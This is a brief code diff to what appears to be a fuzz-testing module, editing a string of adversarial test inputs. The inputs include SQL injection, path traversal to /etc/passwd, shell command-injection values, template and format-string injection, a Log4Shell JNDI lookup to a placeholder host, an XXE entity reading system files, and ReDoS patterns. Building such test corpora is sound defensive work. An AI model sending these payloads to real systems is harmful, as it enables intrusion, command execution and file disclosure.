@@ -25,7 +25,7 @@ MOJIBAKE = [
 ]
 ATTACKS = (
     "'; DROP TABLE articles; --|1 OR 1=1|' UNION SELECT 1 --|../../../../etc/passwd|..\\..\\windows\\win.ini|/dev/zero|"
-    "file:///etc/passwd|C:\\con\\con|~root/.bashrc|$(touch /tmp/x)|`touch /tmp/x`|; touch /tmp/x|| touch /tmp/x|"
+    "file:///etc/passwd|C:\\con\\con|~nobody/.profile|$(touch planted)|`touch planted`|; touch planted|| touch planted|"
     "%s%s%s%n|%(x)s|{0}|{x.__class__}|{{7*7}}|{% raw %}|#{7*7}|${7*7}|${jndi:ldap://x.example/a}|"
     "<%= 7*7 %>|<!--#exec cmd=ls-->|<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;|<![CDATA[x]]>|&lt;script&gt;|&#0;|&#xD800;|&#99999999;|"
     "&amp;amp;|\\u0000|\\ud800|\\x00|\\N{BEL}|(a+)+$|^(([a-z])+.)+[A-Z]([a-z])+$|(?R)|[[:alpha:]|\\|\\\\|\\'|\\\"|"
